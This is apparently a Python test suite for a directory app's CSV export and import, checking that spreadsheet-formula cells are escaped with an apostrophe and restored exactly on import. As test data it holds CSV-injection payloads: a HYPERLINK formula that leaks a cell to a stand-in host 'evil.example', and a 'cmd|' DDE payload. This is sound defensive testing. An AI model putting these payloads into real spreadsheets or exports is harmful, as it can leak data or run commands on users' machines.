"""CSV exports cannot run formulas in a spreadsheet, and what they neutralise imports back exactly.

A cell starting with `=`, `+`, `-`, `@`, tab or carriage return is a formula to Excel, LibreOffice and
Google Sheets; the export writes such cells with a leading apostrophe (OWASP's advice) and every CSV import
removes exactly that apostrophe again.
"""

from __future__ import annotations

import csv
import io
import uuid

from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import select

from directory.interchange import export_csv, import_csv, import_hsds_csv
from directory.interchange.spreadsheet import FORMULA_START, escape_cell, unescape_cell
from directory.interchange.template import NUMBER_COLUMNS
from directory.models import Organization, Service
from tests.factories import create_organization, create_service

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Age UK")'
# What someone may really call things: each starts with a formula character or an apostrophe before one.
NAMES = (HOSTILE_NAME, "-Tea and Talk-", "+Plus Club", "@Home Support", "'=Not a formula'", "''-twice")
# Text made mostly of the characters that matter here, so the interesting cases are tried often.
TRICKY = st.text(alphabet=st.sampled_from(["'", *FORMULA_START, "a", " ", ",", '"', "\n", "1", "é"]))


def exported_rows(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_a_service_named_as_a_formula_is_exported_as_text(empty_db, tmp_path):
    with empty_db.transaction() as session:
        organization = create_organization(session, name="@SUM(1+1) Trust")
        create_service(
            session,
            name=HOSTILE_NAME,
            description="-2+3 hot meals",
            organization=organization,
            phone="+44 161 496 0000",
            point=(53.43661, -2.15444),
        )
        out = tmp_path / "directory.csv"
        export_csv(session, out)
    (row,) = exported_rows(out)
    assert row["service_name"] == "'" + HOSTILE_NAME
    assert row["organisation_name"] == "'@SUM(1+1) Trust"
    assert row["description"] == "'-2+3 hot meals"
    assert row["phone"] == "'+44 161 496 0000"
    for column, cell in row.items():
        if column not in NUMBER_COLUMNS:
            assert not cell.startswith(FORMULA_START), (column, cell)


def test_numbers_the_export_writes_stay_numbers_a_spreadsheet_can_use(empty_db, tmp_path):
    """A negative longitude is a number, not a formula that calls anything: quoting it would turn the
    column into text for every officer west of Greenwich, for no safety gained."""
    with empty_db.transaction() as session:
        create_service(session, name="Pantry", point=(53.43661, -2.15444))
        out = tmp_path / "directory.csv"
        export_csv(session, out)
    (row,) = exported_rows(out)
    assert (row["latitude"], row["longitude"]) == ("53.43661", "-2.15444")
    assert escape_cell("-2.15444", numeric=True) == "-2.15444"
    assert escape_cell("-1+cmd|' /C calc'!A0", numeric=True) == "'-1+cmd|' /C calc'!A0"


def test_names_starting_with_formula_characters_import_back_exactly_as_they_were(
    empty_db, db_session, tmp_path
):
    group = f"-Dash Group {uuid.uuid4().hex[:6]}"
    with empty_db.transaction() as session:
        organization = create_organization(session, name=group)
        for name in NAMES:
            create_service(session, name=name, description=f"{name} description", organization=organization)
        out = tmp_path / "directory.csv"
        export_csv(session, out)
    report = import_csv(db_session, out)
    assert (report.created, report.error_count) == (len(NAMES), 0)
    imported = db_session.scalars(select(Service).join(Organization).where(Organization.name == group)).all()
    assert sorted(s.name for s in imported) == sorted(NAMES)
    assert {s.description for s in imported} == {f"{name} description" for name in NAMES}
    again = tmp_path / "again.csv"
    export_csv(db_session, again)
    mine = [row for row in exported_rows(again) if row["organisation_name"] == "'" + group]
    assert sorted(row["service_name"] for row in mine) == sorted(escape_cell(name) for name in NAMES)


def test_an_hsds_package_from_a_careful_exporter_loses_its_apostrophes(db_session, tmp_path):
    """Publishers following the same advice send `'-2.15`: a number, and `'=...`: text starting with `=`."""
    service_id, organization_id, location_id = (str(uuid.uuid4()) for _ in range(3))
    tables = {
        "organizations": f"id,name\n{organization_id},'@Home Trust\n",
        "services": f"id,organization_id,name,status\n{service_id},{organization_id},'=1+1 Club,active\n",
        "locations": f"id,name,latitude,longitude\n{location_id},Hall,53.4,'-2.15\n",
        "service_at_locations": f"id,service_id,location_id\n{uuid.uuid4()},{service_id},{location_id}\n",
    }
    for name, text in tables.items():
        (tmp_path / f"{name}.csv").write_text(text, encoding="utf-8")
    report = import_hsds_csv(db_session, tmp_path)
    assert report.error_count == 0, report.render()
    service = db_session.get(Service, service_id)
    assert (service.name, service.organization.name) == ("=1+1 Club", "@Home Trust")
    assert service.service_at_locations[0].location.longitude == -2.15


@given(TRICKY | st.text())
@example("'")
@example("'=")
@example("''@x")
def test_escaping_then_unescaping_any_text_gives_it_back(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_START)


@given(st.lists(TRICKY | st.text(), min_size=1, max_size=5))
def test_any_row_survives_a_trip_through_a_csv_file(cells):
    handle = io.StringIO(newline="")
    csv.writer(handle).writerow([escape_cell(cell) for cell in cells])
    (row,) = csv.reader(io.StringIO(handle.getvalue(), newline=""))
    assert [unescape_cell(cell) for cell in row] == cells
